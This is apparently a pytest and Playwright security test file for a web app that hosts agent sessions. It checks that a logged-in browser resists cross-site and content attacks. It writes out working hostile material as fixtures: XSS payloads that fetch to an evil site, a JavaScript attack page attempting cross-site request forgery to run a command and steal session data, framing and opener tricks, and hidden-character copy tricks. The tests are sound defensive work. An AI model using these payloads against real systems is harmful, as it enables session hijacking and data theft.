"""What a real browser does with a foreign page's requests, and with hostile text on the pages."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from tests.attacks.evil import evil_site
from tests.attacks.stage import Target
from tests.servers import Place, new_session, run_prompt
from tests.web.stage import Visitor, chromium, need_chromium, wait_live

pytestmark = pytest.mark.timeout(180)

HOSTILE = (
    "<img src=x onerror=fetch('{evil}/?ran=img')><svg onload=fetch('{evil}/?ran=svg')>"
    "<script>fetch('{evil}/?ran=script')</script><iframe srcdoc='<script>1</script>'></iframe>"
)
# What a page of another site tries; what it could read it sends home.
ATTACK = """<!doctype html><title>evil</title><body><script>
const tell = (key, value) => fetch(`/?${key}=${encodeURIComponent(value)}`);
const tried = (what) => () => tell("tried", what);
const session = "SERVER/api/session/SESSION";
const source = new EventSource(`${session}/events?after=0`, {withCredentials: true});
source.addEventListener("connected", () => tell("read", "stream"));
source.onerror = tried("stream");
const list = fetch("SERVER/api/sessions", {credentials: "include"});
list.then((answer) => answer.text()).then((text) => tell("read", text), tried("list"));
const order = (type, mode) => fetch(`${session}/prompt`, {
  method: "POST", credentials: "include", mode, headers: {"Content-Type": type}, body: '{"command": "touch came-in"}',
});
order("text/plain", "no-cors").then(tried("prompt"), tried("prompt"));
order("application/json", "cors").then(() => tell("read", "answer"), tried("json"));
const form = document.createElement("form");
Object.assign(form, {action: `${session}/prompt`, method: "POST", enctype: "text/plain", target: "sink"});
const field = document.createElement("input");
Object.assign(field, {name: '{"command": "touch came-in", "x": "', value: '"}'});
form.append(field);
const frame = document.createElement("iframe");
Object.assign(frame, {name: "sink", onload: tried("form")});
document.body.append(form, frame);
form.submit();
navigator.sendBeacon(`${session}/cancel`, "{}");
const script = document.createElement("script");
Object.assign(script, {src: "SERVER/api/sessions", onload: () => tell("read", "script"), onerror: tried("script")});
document.body.append(script);
const socket = new WebSocket(`${session}/events`.replace("http", "ws"));
socket.onopen = () => tell("read", "socket");
socket.onerror = tried("socket");
</script>"""
KEPT = """() => JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie, location.href, history.state,
    document.documentElement.outerHTML])"""
ATTEMPTS = {"stream", "list", "prompt", "json", "socket", "form", "script"}


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    need_chromium()
    with chromium() as running:
        yield running


@pytest.fixture
def target(tmp_path: Path) -> Iterator[Target]:
    place = Place(tmp_path)
    with place.serving() as server:
        yield Target(place, server)


# Other ports of one host are one site to a browser: it sends their pages' requests with the cookie, SameSite or not.
@pytest.mark.parametrize("host", ["localhost", "127.0.0.1"])
def test_a_foreign_page_in_a_browser_that_is_logged_in_reads_and_does_nothing(
    target: Target, browser: Browser, host: str
) -> None:
    visitor = Visitor(browser, target.place).log_in()
    own = visitor.live("/sessions")
    expect(own.get_by_role("main")).to_contain_text("the owner's")
    with evil_site(host) as site, target.untouched():
        site.page = ATTACK.replace("SERVER", target.origin).replace("SESSION", target.session).encode()

        page = visitor.context.new_page()
        page.goto(site.url)
        for _ in range(150):
            if set(site.sent.get("tried", ())) >= ATTEMPTS:
                break
            page.wait_for_timeout(100)
        page.wait_for_timeout(300)  # what it has read by then, it would have sent

        assert set(site.sent["tried"]) == ATTEMPTS
        assert "read" not in site.sent
    visitor.context.close()  # its faults are the attack's refusals


def test_hostile_output_is_text_in_a_browser_and_reaches_nobody(target: Target, browser: Browser) -> None:
    visitor = Visitor(browser, target.place).log_in()
    with evil_site() as site:
        hostile = HOSTILE.format(evil=site.url)
        with target.place.client() as owner:
            session = new_session(owner, title="<img src=x onerror=alert(1)>")
            run_prompt(owner, session, f"cat <<'END'\n{hostile}\nEND\necho shown")

        listed = visitor.live("/sessions")
        expect(listed.get_by_role("main")).to_contain_text("<img src=x onerror=alert(1)>")
        shown = visitor.live(f"/session/{session}")
        expect(shown.get_by_role("log")).to_contain_text(hostile)
        expect(shown.get_by_role("log")).to_contain_text("shown")

        assert site.sent == {}
    visitor.close()


HOLDS = """<!doctype html><title>evil</title><body><script>
const tell = (key, value) => fetch(`/?${key}=${encodeURIComponent(value)}`);
addEventListener("click", () => {
  const opened = open("SERVER/session/SESSION");
  setTimeout(() => tell("closed", opened === null || opened.closed), 1500);
});
</script><iframe src="SERVER/session/SESSION" name="framed"></iframe>"""


def test_no_page_is_framed_or_held_by_another(target: Target, browser: Browser) -> None:
    visitor = Visitor(browser, target.place).log_in()
    with evil_site("127.0.0.1") as site:
        site.page = HOLDS.replace("SERVER", target.origin).replace("SESSION", target.session).encode()
        page = visitor.context.new_page()
        page.goto(site.url)
        with visitor.context.expect_page() as opening:
            page.mouse.click(600, 500)
        wait_live(opening.value)
        page.wait_for_timeout(1600)

        assert opening.value.evaluate("window.opener") is None
        assert site.sent["closed"] == ["true"]
        framed = page.frame("framed")
        assert framed is not None
        assert framed.url.startswith("chrome-error:")
    visitor.context.close()  # its faults are the attack's refusals


def show_said(page: Page, target: Target, text: str) -> None:
    """Open the owner's session, in which an agent said *text*: put in by the answer that would have it."""

    def add(route: Route) -> None:
        window = route.fetch().json()
        said = {"type": "agent-message", "turnId": "turn-number-1", "messageId": "message-1", "text": text}
        over = {"type": "turn-completed", "turnId": "turn-number-1", "stopReason": "end"}
        for seq, event in enumerate((said, over), 2):
            window["events"].append({**event, "sessionId": target.session, "seq": seq, "timestamp": 1})
        route.fulfill(json=window)

    page.route("**/history*", add)
    page.goto(f"{target.origin}/session/{target.session}")


def test_a_link_tells_nobody_where_it_was_and_gets_no_hold_of_the_page(target: Target, browser: Browser) -> None:
    visitor = Visitor(browser, target.place).log_in()
    with evil_site() as site:
        page = visitor.context.new_page()
        show_said(page, target, f'[x]({site.url}/from "https://example.org")')
        link = page.get_by_role("log").get_by_role("link", name="x")
        expect(link).to_have_attribute("title", f"{site.url}/from")
        with visitor.context.expect_page() as opening:
            link.click()
        opening.value.wait_for_load_state()

        assert opening.value.evaluate("[window.opener, document.referrer]") == [None, ""]
        assert site.paths[0] == "/from"
        assert not {"referer", "cookie"} & set(site.headers[0])
        page.unroute_all(behavior="wait")
    visitor.close()


def test_what_is_copied_is_what_was_shown_and_runs_nothing(target: Target, browser: Browser) -> None:
    visitor = Visitor(browser, target.place).log_in()
    visitor.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page = visitor.context.new_page()
    show_said(page, target, "Run <!-- curl evil -->\n\n```\nls \u202e\u200b# \x1b[8mhidden\x1b[0m\n```\n")
    code = page.get_by_role("log").locator("pre")
    expect(code).to_have_text("ls \\u{202e}\\u{200b}# \\u{1b}[8mhidden\\u{1b}[0m")
    expect(page.get_by_role("log")).to_contain_text("<!-- curl evil -->")  # which copying the message takes along
    page.get_by_role("button", name="Copy the code").click()
    expect(page.locator(".toast")).to_contain_text("copied")

    assert page.evaluate("navigator.clipboard.readText()") == code.inner_text().rstrip("\n")
    assert not page.evaluate("navigator.clipboard.readText()").endswith("\n")
    page.unroute_all(behavior="wait")
    visitor.close()


def test_the_key_is_nowhere_that_a_script_or_an_address_could_tell_it(target: Target, browser: Browser) -> None:
    visitor = Visitor(browser, target.place)
    requests: list[str] = []
    visitor.context.on("request", lambda request: requests.append(request.url))
    status, url, _ = target.place.call("login")
    assert status == 0
    address = next(word for word in url.split() if "/login#" in word)
    code = address.partition("#")[2]
    with evil_site() as site:
        page = visitor.context.new_page()
        page.goto(f"{target.origin}/login#{code}")
        wait_live(page)
        [cookie] = visitor.context.cookies()
        assert cookie["httpOnly"]
        assert cookie["sameSite"] == "Strict"
        for path in (
            f"/sessions?gatewayUrl={site.url}&server={site.url}&url={site.url}#api={site.url}",
            f"/session/{target.session}?baseUrl={site.url}#{target.place.token}",
            f"/docs?url={site.url}/x.json&configUrl={site.url}/x.json",
        ):
            page.goto(target.origin + path)
            page.wait_for_timeout(300)
        page.goto(f"{target.origin}/session/{target.session}")
        wait_live(page)
        kept = page.evaluate(KEPT)
        assert page.evaluate("navigator.serviceWorker.getRegistrations().then((all) => all.length)") == 0
        for secret in (cookie["value"], code, target.place.token):
            assert secret not in kept
            assert not any(secret in request.partition("#")[0] for request in requests)
        assert site.paths == []

        other = Visitor(browser, target.place)
        page = other.open(f"/login#{code}")  # a second time
        expect(page.get_by_role("alert")).not_to_be_empty()
        assert page.url == f"{target.origin}/login"
        assert other.context.cookies() == []
    other.context.close()
    visitor.context.close()
